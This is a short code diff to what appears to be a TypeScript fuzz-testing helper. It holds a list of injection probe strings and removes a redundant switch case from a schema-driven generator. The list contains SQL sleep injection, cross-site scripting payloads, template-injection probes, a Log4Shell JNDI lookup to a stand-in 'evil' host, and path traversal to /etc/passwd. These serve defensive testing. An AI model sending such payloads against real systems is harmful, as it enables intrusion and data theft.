@@ -9,8 +9,8 @@ export const INJECTION_STRINGS = [
   "1; SELECT pg_sleep(10)",
   "<script>alert(document.cookie)</script>",
   "<img src=x onerror=alert(1)>",
-  "{{7*7}}${7*7}",
-  "${jndi:ldap://evil/x}",
+  "{{7*7}}" + "$" + "{7*7}", // template-injection probes, spelled out so they stay literal
+  "$" + "{jndi:ldap://evil/x}",
   "../../../../etc/passwd",
   "%00%2e%2e%2f",
   "\u0000",
@@ -149,7 +149,6 @@ export function plausible(schema: JsonSchema | undefined, depth = 0): fc.Arbitra
         maxLength: maxItems,
       });
     }
-    case "object":
     default:
       return plausibleObject(schema, depth);
   }
